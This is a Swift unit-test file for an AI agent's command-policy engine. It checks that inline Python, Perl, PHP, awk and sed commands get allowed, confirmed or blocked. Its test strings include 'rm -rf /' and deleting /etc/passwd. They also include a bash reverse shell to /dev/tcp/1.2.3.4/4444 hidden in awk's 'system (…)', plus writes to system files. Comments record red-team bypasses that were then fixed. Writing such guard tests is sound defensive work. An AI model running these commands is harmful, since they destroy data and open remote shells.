import AgentPolicy
import XCTest

/// Inline interpreter code, and sed's and awk's own ways to run commands or write files
/// (`Rules/InterpreterRules.swift`, `Rules/SedScript.swift`). Guarded mode unless said otherwise.
final class InterpreterRulesTests: XCTestCase {
    func testInlineCodeSedAndAwk() {
        assertVerdicts([
            ("python3 -c 'print(1)'", .confirm(.interpreterInlineCode)), ("python3 script.py", .allow),
            ("python3 --version", .allow),
            ("python3", .block(.interpreterReadsChannel)),
            ("python3 -c \"import shutil; shutil.rmtree('/home')\"", .block(.interpreterDeleteSystemPath)),
            ("perl -e 'unlink \"/etc/passwd\"'", .block(.interpreterDeleteSystemPath)),
            ("php -r 'system(\"/bin/sh -i\");'", .block(.interpreterSpawnsShell)),
            ("node -e 'require(\"child_process\")'", .confirm(.interpreterInlineCode)),
            ("perl -ne 'print' f", .confirm(.interpreterInlineCode)), ("ruby -e 'puts 1'", .confirm(.interpreterInlineCode)),
            ("awk '{print $1}' f", .allow),
            ("awk 'BEGIN{system(\"id\")}'", .confirm(.awkRunsCommand)), ("awk '{print | \"sh\"}'", .confirm(.awkRunsCommand)),
            ("sed 's/a/b/e' f", .block(.sedExecute)),
            ("sed -n '1e id' f", .block(.sedExecute)), ("sed 's/a/b/' f", .allow),
            ("sed -n '1w /etc/x' f", .confirm(.sedWriteFile)),
        ])
    }

    /// Found by comparing with a second, independently written engine.
    ///
    /// Shell commands inside interpreter code are judged as commands.
    func testShellCommandsInsideInterpreterCode() {
        assertVerdicts([
            ("python3 -c \"import os; os.system('rm -rf /')\"", .block(.rmRoot)),
            ("python3 -c \"import os; os.system('ls')\"", .confirm(.interpreterInlineCode)),
            ("awk 'BEGIN{system(\"rm -rf /etc\")}'", .block(.rmRecursiveSystemPath)),
            ("perl -e 'system(\"rm -rf /home\")'", .block(.rmRecursiveSystemPath)),
        ])
    }

    /// Found by a red-team pass aimed at the policy's relaxations and fixed; every row got `allow`
    /// before (several were older: `system (…)` with a blank, `~root/..` paths).
    ///
    /// awk allows blanks before a built-in's parenthesis: `system (…)`.
    func testAwkSystemWithABlank() {
        assertVerdicts([
            ("awk 'BEGIN { system (\"rm -rf /etc\") }'", .block(.rmRecursiveSystemPath)),
            ("awk 'BEGIN { system (\"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\") }'", .block(.networkDevTcp)),
        ])
    }

    /// Commands a security review found slipping through; each row now holds.
    func testAwkOutputFiles() {
        assertVerdicts([
            ("awk '{print > \"/etc/passwd\"}' f", .block(.awkWriteGuardrail)),
            ("awk '{print > \"/etc/cron.d/x\"}' f", .confirm(.awkWriteSystemPath)),
            ("awk '{print > \"out.txt\"}' f", .allow),
        ])
    }
}
